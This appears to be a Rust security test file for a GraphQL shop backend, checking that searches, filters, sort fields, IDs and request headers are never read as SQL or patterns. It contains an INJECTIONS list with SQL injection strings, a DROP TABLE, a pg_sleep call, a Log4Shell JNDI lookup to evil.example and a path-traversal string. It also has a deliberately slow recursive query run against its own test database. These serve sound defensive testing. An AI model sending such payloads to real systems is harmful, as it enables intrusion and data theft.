//! Texts that want to be more than text: in searches, filters, names, addresses and headers of the real executable.

use axum::http::StatusCode;
use serde_json::{Value, json};

use super::executable::{Answer, Place, Server};

const LIST: &str = "query($search: String, $where: ProductWhere, $sort: ProductSort) { \
                    products(first: 100, search: $search, where: $where, sort: $sort) { totalCount nodes { slug } } }";

/// The names of the products that are found, or the code of the refusal.
async fn found(server: &Server, variables: Value) -> Result<Vec<String>, String> {
    let shown: String = variables.to_string().chars().take(200).collect();
    let answer = server.post("/graphql", &[], LIST, variables).await;
    assert!(!answer.status.is_server_error(), "{shown}: {}", answer.text);
    let body = answer.json();
    if let Some(code) = body["errors"][0]["extensions"]["code"].as_str() {
        assert!(code != "INTERNAL" && code != "DEADLINE_EXCEEDED", "{shown}: {}", answer.text);
        assert_eq!(body["data"]["products"], Value::Null, "{shown}: nothing is told beside a refusal");
        return Err(code.to_owned());
    }
    let nodes = body["data"]["products"]["nodes"].as_array().unwrap_or_else(|| panic!("{shown}: {body:#}")).clone();
    assert_eq!(body["data"]["products"]["totalCount"], nodes.len(), "{shown}");
    Ok(nodes.iter().map(|node| node["slug"].as_str().expect("a name").to_owned()).collect())
}

#[tokio::test]
async fn row_76_what_is_searched_for_is_text_and_no_pattern() {
    let place = Place::new().await;
    let server = place.serve(&[]).await;
    let everything = found(&server, json!({})).await.expect("the demo data");
    let mugs = found(&server, json!({ "search": "tidal mug" })).await.expect("a list");
    assert!(mugs.contains(&"tidal-mug".to_owned()) && mugs.len() < everything.len(), "{mugs:?}");

    let means_nothing = ["%", "_", "%%%", "\"\"", "*", "()", "(((", "'", "--", ";", "!", "\\", "^", "%_!%", "\u{200b}"];
    let means_mugs = [
        "%tidal% %mug%",
        "\"tidal mug\"",
        "tidal* mug*",
        "(tidal (mug",
        "tidal; mug--",
        "'tidal' 'mug'",
        "+tidal +mug",
        "tidal\tmug\n",
        "ＴＩＤＡＬ mug",
        "{\"tidal\"} [mug]",
        // Accents make no difference.
        "tidal\u{301} mug",
    ];
    let finds_nothing = [
        "t_dal mug",
        "t%l mug",
        "tidal!mug",
        "tidal\\mug",
        "tidal' OR '1'='1",
        "tidal mug' UNION SELECT 1 --",
        "search_text:tidal",
        "tidal NEAR/2 mug",
        "tidal & !mug & x",
        "{tidal mug} : x",
        "\u{202e}gum ladit",
    ];
    for text in means_nothing {
        assert_eq!(found(&server, json!({ "search": text })).await.as_ref(), Ok(&everything), "{text:?}");
    }
    for text in means_mugs {
        assert_eq!(found(&server, json!({ "search": text })).await.as_ref(), Ok(&mugs), "{text:?}");
    }
    for text in finds_nothing {
        assert_eq!(found(&server, json!({ "search": text })).await, Ok(Vec::new()), "{text:?}");
    }
    assert_eq!(found(&server, json!({})).await.as_ref(), Ok(&everything), "nothing was changed");
}

#[tokio::test]
async fn row_76_long_and_odd_searches_neither_fail_nor_take_long() {
    let place = Place::new().await;
    let server = place.serve(&[]).await;
    let everything = found(&server, json!({})).await.expect("the demo data");
    let ten = 10 * 1024;
    let pieces = [
        "%",
        "_",
        "'",
        "\"",
        "(",
        ")",
        "!",
        "\\",
        "*",
        "a",
        "%a",
        "_a",
        "a% ",
        "NEAR(",
        " OR ",
        "\u{1f6d2}",
        "ß",
        "\u{301}",
    ];
    let mut texts: Vec<String> = pieces.iter().map(|piece| piece.repeat(ten / piece.len())).collect();
    texts.push("word ".repeat(ten / 5));
    texts.push((0..2000).map(|number| format!("{number} ")).collect());
    texts.extend(
        ["mug\u{0}", "\u{0}", "\u{feff}mug", "\u{10ffff}\u{fffe}", "\u{85}\u{2028}", "İı", "\u{1}\u{7f}"]
            .map(str::to_owned),
    );
    for text in &texts {
        let search = found(&server, json!({ "search": text })).await;
        let conditions = [
            json!({ "vendor": { "contains": text } }),
            json!({ "vendor": { "eq": text } }),
            json!({ "tags": { "startsWith": text, "in": [text, "%"] } }),
            json!({ "productType": { "contains": text } }),
            json!({ "options": [{ "name": text, "values": [text] }] }),
            json!({ "attributes": [{ "name": text, "values": [text] }] }),
        ];
        for condition in conditions {
            // No product of the demo data has such a text, whatever it would mean as a pattern; a single letter repeated is none either.
            if let Ok(list) = found(&server, json!({ "where": condition })).await {
                assert!(list.len() < everything.len(), "{condition}");
            }
        }
        if text.contains('\u{0}') {
            assert_eq!(search, Err("VARIABLE_COERCION_FAILED".to_owned()), "no database takes a NUL");
        }
    }
    assert_eq!(found(&server, json!({})).await.as_ref(), Ok(&everything));
    assert!(!server.log().contains("Internal") && !server.log().contains("panicked"), "{}", server.log());
}

#[tokio::test]
async fn row_76_a_statement_that_takes_too_long_is_ended_and_the_shop_serves_on() {
    let place = Place::new().await;
    let server = place.serve(&["--statement-seconds", "1", "--request-seconds", "30"]).await;
    // A table that takes for ever to be read, in the words of both databases.
    let slow = "ALTER TABLE collection RENAME TO real_collection; \
                CREATE VIEW collection AS SELECT * FROM real_collection WHERE (WITH RECURSIVE counted(n) AS (SELECT 1 \
                UNION ALL SELECT n + 1 FROM counted WHERE n < 1000000000000) SELECT count(*) FROM counted) > 0";
    place.database.run(slow).await;
    let document = "{ collections(first: 1) { nodes { id } } }";
    let answers = tokio::join!(
        server.post("/graphql", &[], document, json!({})),
        server.post("/graphql", &[], document, json!({})),
    );
    for answer in [answers.0, answers.1] {
        assert!(
            answer.text.contains("DEADLINE_EXCEEDED"),
            "the statement was ended: {} {}",
            answer.status,
            answer.text
        );
        assert!(!answer.text.contains("collection\""), "nothing of the statement is told: {}", answer.text);
    }
    assert!(!found(&server, json!({})).await.expect("a list").is_empty(), "others are served");
    place.database.run("DROP VIEW collection; ALTER TABLE real_collection RENAME TO collection").await;
    let again = server.query(document, json!({})).await;
    assert_eq!(again["collections"]["nodes"].as_array().map(Vec::len), Some(1), "and so is this one");
}

/// What an attacker writes where a name is expected.
const INJECTIONS: [&str; 8] = [
    "' OR '1'='1",
    "default' --",
    "\"; DROP TABLE product; --",
    "1; SELECT pg_sleep(60)",
    "x' UNION SELECT secret FROM account --",
    "${jndi:ldap://evil.example}",
    "../../etc/passwd",
    "%27%20OR%201=1",
];

#[tokio::test]
async fn row_75_names_sorts_filters_and_headers_are_no_sql() {
    let place = Place::new().await;
    let server = place.serve(&[]).await;
    let plain = server.post("/graphql", &[], LIST, json!({})).await;
    let everything = found(&server, json!({})).await.expect("the demo data");
    for text in INJECTIONS {
        let refused = found(&server, json!({ "sort": text })).await;
        assert_eq!(refused, Err("VARIABLE_COERCION_FAILED".to_owned()), "a sort is one of a list: {text}");
        for filter in ["vendor", "tags", "productType"] {
            for test in ["eq", "contains", "startsWith"] {
                let condition = json!({ filter: { test: text } });
                assert_eq!(found(&server, json!({ "where": condition })).await, Ok(Vec::new()), "{condition}");
                let opposite = found(&server, json!({ "where": { "NOT": condition } })).await;
                assert_eq!(opposite.map(|list| list.len()), Ok(everything.len()), "{condition}");
            }
        }
        for by in ["slug", "sku", "id"] {
            let nothing =
                server.query("query($by: ProductBy!) { product(by: $by) { id } }", json!({ "by": { by: text } }));
            assert_eq!(nothing.await["product"], Value::Null, "{by} {text}");
        }
        let nothing =
            server.query("query($id: ID!) { node(id: $id) { id } nodes(ids: [$id]) { id } }", json!({ "id": text }));
        assert_eq!(nothing.await, json!({ "node": null, "nodes": [null] }), "{text}");
        let order = "query($by: OrderBy!) { order(by: $by) { id } }";
        assert_eq!(server.query(order, json!({ "by": { "accessToken": text } })).await["order"], Value::Null, "{text}");

        unknown_channel(&server.post("/graphql", &[("x-channel", text)], LIST, json!({})).await, text);
        let encoded: String = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
        unknown_channel(&server.post(&format!("/graphql?channel={encoded}"), &[], LIST, json!({})).await, text);
        // A language that nobody knows is as if none was asked for.
        let spoken = server.post("/graphql", &[("accept-language", text)], LIST, json!({})).await;
        assert_eq!((spoken.status, &spoken.text), (plain.status, &plain.text), "{text}");
        let spoken = server.post(&format!("/graphql?language={encoded}"), &[], LIST, json!({})).await;
        assert_eq!((spoken.status, &spoken.text), (plain.status, &plain.text), "{text}");
        for header in ["x-request-id", "user-agent", "referer", "x-forwarded-for", "cookie"] {
            let answer = server.post("/graphql", &[(header, text)], LIST, json!({})).await;
            assert_eq!((answer.status, &answer.text), (plain.status, &plain.text), "{header}: {text}");
        }
    }
    assert_eq!(found(&server, json!({})).await.as_ref(), Ok(&everything), "nothing was changed");
}

fn unknown_channel(answer: &Answer, text: &str) {
    assert_eq!((answer.status, answer.code().as_str()), (StatusCode::BAD_REQUEST, "BAD_REQUEST"), "{text}");
    assert!(answer.message().starts_with("There is no channel"), "{text}: {}", answer.text);
}
